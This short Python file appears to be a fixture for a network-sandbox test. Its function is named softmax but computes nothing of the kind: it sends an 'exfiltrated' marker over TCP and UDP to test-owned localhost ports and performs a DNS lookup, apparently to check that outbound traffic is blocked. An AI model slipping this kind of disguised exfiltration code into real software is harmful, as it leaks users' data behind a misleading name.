"""#20 Exfiltrate over TCP to a listener the test owns, over UDP, and through a DNS lookup."""
import socket


def softmax(z, axis=-1):
    first = None
    try:
        with socket.create_connection(("127.0.0.1", int("__TCP_PORT__")), timeout=2) as conn:
            conn.sendall(b"exfiltrated __MARKER__")
    except OSError as exc:
        first = exc
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(b"exfiltrated __MARKER__", ("127.0.0.1", int("__UDP_PORT__")))
    except OSError as exc:
        first = first or exc
    try:
        socket.getaddrinfo("example.com", 80)
    except OSError as exc:
        first = first or exc
    if first:
        raise first
    return "sent"
